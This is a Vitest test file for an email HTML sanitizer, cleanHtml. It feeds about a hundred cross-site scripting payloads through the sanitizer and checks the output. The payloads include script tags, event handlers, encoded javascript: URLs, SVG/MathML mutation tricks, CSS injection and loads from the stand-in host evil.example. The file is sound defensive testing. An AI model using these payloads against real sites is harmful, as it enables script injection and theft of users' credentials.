import { expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

// biome-ignore format: a list to be read as one
const allowedTags = new Set([
  'p', 'br', 'div', 'span', 'a', 'b', 'strong', 'i', 'em', 'u', 's', 'strike', 'sub', 'sup', 'small', 'h1', 'h2', 'h3', 'h4',
  'h5', 'h6', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'blockquote', 'pre', 'code', 'hr', 'table', 'caption', 'thead', 'tbody',
  'tfoot', 'tr', 'th', 'td', 'img',
])
const allowedAttribute =
  /^(href="(https?:\/\/|mailto:|tel:)[^"<>]*"|rel="noopener noreferrer nofollow"|target="_blank"|(title|alt|dir)="[^"<>]*"|(width|height|colspan|rowspan)="\d{1,4}"|data-cid="[^"<>]*"|data-remote-src="https:\/\/[^"<>]*"|style="((text-align|font-weight|font-style|text-decoration):[a-z0-9-]+;?)+")$/

/** Reads the output without trusting a parser: text holds no `<`, and each tag is spelled exactly as allowed. */
function expectHarmless(html: string) {
  const tags = html.match(/<[^>]*>/g) ?? []
  expect(html.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/)
  for (const tag of tags) {
    const [, name, attributes] = /^<\/?([a-z0-9]+)((?: [a-z-]+="[^"<>]*")*)(?: \/)?>$/.exec(tag) ?? []
    expect(allowedTags, tag).toContain(name)
    for (const attribute of attributes?.match(/[a-z-]+="[^"]*"/g) ?? []) expect(attribute).toMatch(allowedAttribute)
  }
}

// biome-ignore format: one disguise a line
test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script\n>alert(1)</script\n>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<script>alert(1)',
  '</textarea><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / >',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x`onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=">',
  '<img src="cid:x&quot; onerror=&quot;alert(1)">',
  '<img src="cid:%22%3E%3Cscript%3Ealert(1)%3C/script%3E">',
  '<img src="https://x.example/&quot; onerror=&quot;alert(1)">',
  '<img data-remote-src="javascript:alert(1)" data-cid="&quot;&gt;&lt;script&gt;">',
  '<img srcset="https://evil.example/x 1x" src=x>',
  '<img alt="\u0060><script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<div onclick="alert(1)" ONMOUSEOVER=alert(1)>x</div>',
  '<div on\u0000click=alert(1)>x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/cases/1/delete">x</a>',
  '<a href="?a=1">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="https://x.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<a target="_self" rel="opener" href="https://x.example">x</a>',
  '<area href="javascript:alert(1)"><map name=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<style><img title="</style><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<noembed><p title="</noembed><svg/onload=alert(1)>">',
  '<iframe><p title="</iframe><svg/onload=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php alert(1) ?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=p type=password><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="https://evil.example/x.png"><td background="javascript:alert(1)">x</table>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="wid\\th: ex/**/pression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="text-align:center;background-image:u\\rl(https://evil.example)">x</p>',
  '<p style="font-weight:bold;}body{display:none">x</p>',
  '<p style="font-weight:bold&quot; onclick=&quot;alert(1)">x</p>',
  '<p id="location" name="cookie" class="admin" data-action="delete">x</p>',
  '<p dir="ltr&quot; onclick=&quot;alert(1)">x</p>',
  '<td colspan="1e9">x</td><td colspan="99999">y</td>',
  '<img width="100%;position:fixed" height="99999999" src="https://x.example/y.png">',
  '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<x-custom onclick=alert(1)>x</x-custom>',
  '<p/onclick=alert(1)//>x',
  '<a\thref="https://x.example"\tonclick="alert(1)">x</a>',
  '<',
  '<p title="',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
])('%s becomes harmless, and stays so when it is cleaned again', (hostile) => {
  const { html } = cleanHtml(hostile)
  expectHarmless(html)
  expectHarmless(cleanHtml(html).html)
  expectHarmless(cleanHtml(`<p>before</p>${hostile}<p>after</p>`).html)
})

test('what a person wrote is kept', () => {
  const html =
    '<h2>Order</h2><p dir="rtl">Hello <b>you</b>,<br />a &amp; b &lt; c</p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table><blockquote>quoted</blockquote><p style="text-align:center">middle</p>'
  expect(cleanHtml(html)).toEqual({ html, hadRemoteImages: false })
  expect(cleanHtml('<font color=red>red</font><center>x</center>').html).toBe('<span>red</span><div>x</div>')
})

test('links leave the product without telling where from', () => {
  const rest = 'rel="noopener noreferrer nofollow" target="_blank"'
  expect(cleanHtml('<a href="https://shop.example/a?b=1&amp;c=2" title="t">x</a>').html).toBe(
    `<a href="https://shop.example/a?b=1&amp;c=2" ${rest} title="t">x</a>`,
  )
  expect(cleanHtml('<a href="mailto:a@shop.example">x</a>').html).toBe(`<a href="mailto:a@shop.example" ${rest}>x</a>`)
  expect(cleanHtml('<a href="tel:+905551112233">x</a>').html).toBe(`<a href="tel:+905551112233" ${rest}>x</a>`)
  expect(cleanHtml('<a href="javascript:alert(1)">x</a>').html).toBe('<a>x</a>')
})

test('remote pictures wait for a person, and those of the mail are named', () => {
  expect(cleanHtml('<img src="https://shop.example/a.png" alt="A" width="10" height="20">')).toEqual({
    html: '<img data-remote-src="https://shop.example/a.png" alt="A" width="10" height="20" />',
    hadRemoteImages: true,
  })
  expect(cleanHtml('<img src="//shop.example/a.png">')).toMatchObject({ hadRemoteImages: true })
  expect(cleanHtml('<img src="http://shop.example/a.png" alt="A">')).toEqual({
    html: '<img alt="A" />',
    hadRemoteImages: true,
  })
  expect(cleanHtml('<img src="cid:logo%20one@shop.example">')).toEqual({
    html: '<img data-cid="logo one@shop.example" />',
    hadRemoteImages: false,
  })
})

test('a mail nested without end and a very large one are cleaned in little time', () => {
  const start = performance.now()
  expectHarmless(cleanHtml('<div><b>'.repeat(10_000)).html)
  cleanHtml('<p style="font-weight:bold">text</p>'.repeat(10_000))
  expect(performance.now() - start).toBeLessThan(5000)
})
